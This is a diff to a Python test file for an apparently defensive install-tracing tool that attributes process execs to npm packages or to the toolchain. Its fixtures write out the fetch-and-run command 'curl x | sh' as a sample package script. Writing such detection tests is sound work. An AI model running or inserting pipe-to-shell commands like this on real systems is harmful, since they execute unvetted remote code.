@@ -11,7 +11,7 @@ import frames
 from fpbox import ending
 from fpbox.attribute import Attributor
 from fpbox.errors import CommandNotExecutable, CommandNotFound
-from fpbox.model import TOOLCHAIN, Event
+from fpbox.model import TOOLCHAIN, Action, Event, Package, Process, Scope
 from fpbox.recipes import Matcher, load_catalogue
 from fpbox.session import TIME_LIMIT_REACHED, Output, Session
 from fpbox.trace import records, wire
@@ -47,6 +47,18 @@ class Tracer:
         made = [frames.opening(self.events + n, self.strings) for n in range(1, times + 1)]
         self.events += times
         return name + self.say(frames.frame(KIND.EVENTS, b"".join(made)))
+
+    def execs(self, who: int, path: bytes, argv: bytes) -> bytes:
+        names = self.string(path) + self.string(argv)
+        self.events += 1
+        made = frames.starting(self.events, self.strings - 1, self.strings, who)
+        return names + self.say(frames.frame(KIND.EVENTS, made))
+
+    def becomes(self, number: int, parent: int, argv: bytes, *, kind: int) -> bytes:
+        names = self.string(b"/bin/sh") + self.string(b"/home/dev") + self.string(argv)
+        last = self.strings
+        made = frames.image(number, parent, exe=last - 2, cwd=last - 1, argv=last, kind=kind)
+        return names + self.say(made)
 
     def output(self, data: bytes, stream: int = 1) -> bytes:
         return self.say(frames.frame(KIND.OUTPUT, bytes([stream]) + data))
@@ -170,3 +182,37 @@ def test_what_the_tracer_notes_counts_or_does_not(
     coverage = one.coverage()
     assert coverage.complete is complete
     assert "tracer: something" in (*coverage.notes, *coverage.trouble)
+
+
+class ThirdWorksFor(Attributor):
+    """The third image works for a package, everything else for the toolchain."""
+
+    def __init__(self, package: Package) -> None:
+        super().__init__()
+        self.package = package
+
+    def image(self, process: Process) -> Scope:
+        return Scope(self.package if process.image == 3 else TOOLCHAIN)
+
+
+def started(tracer: Tracer, *, succeeds: bool) -> list[tuple[Package, str]]:
+    """An npm tries to start a package's script by way of a fork. Returns whose execs there were."""
+    seen: list[Event] = []
+    package = Package("pkg:npm/a@1.0.0", "npm", "a", "1.0.0")
+    one = Session(Matcher(load_catalogue()), ThirdWorksFor(package), lambda event, _: seen.append(event))
+    one.feed(tracer.hello() + tracer.image(b"/usr/bin/npm") + tracer.becomes(2, 1, b"npm\0", kind=1))
+    one.feed(tracer.execs(2, b"/bin/sh", b"sh\0-c\0curl x | sh\0"))
+    assert not seen
+    if succeeds:
+        one.feed(tracer.becomes(3, 2, b"sh\0-c\0curl x | sh\0", kind=2))
+    one.close()
+    return [(event.scope.package, event.detail[-1]) for event in seen if event.action is Action.EXEC]
+
+
+def test_a_scripts_words_are_its_packages_though_the_manager_starts_it(tracer: Tracer) -> None:
+    told = started(tracer, succeeds=True)
+    assert [(package.name, words) for package, words in told] == [("a", "curl x | sh")]
+
+
+def test_an_exec_that_fails_is_of_whoever_tried(tracer: Tracer) -> None:
+    assert started(tracer, succeeds=False) == [(TOOLCHAIN, "curl x | sh")]
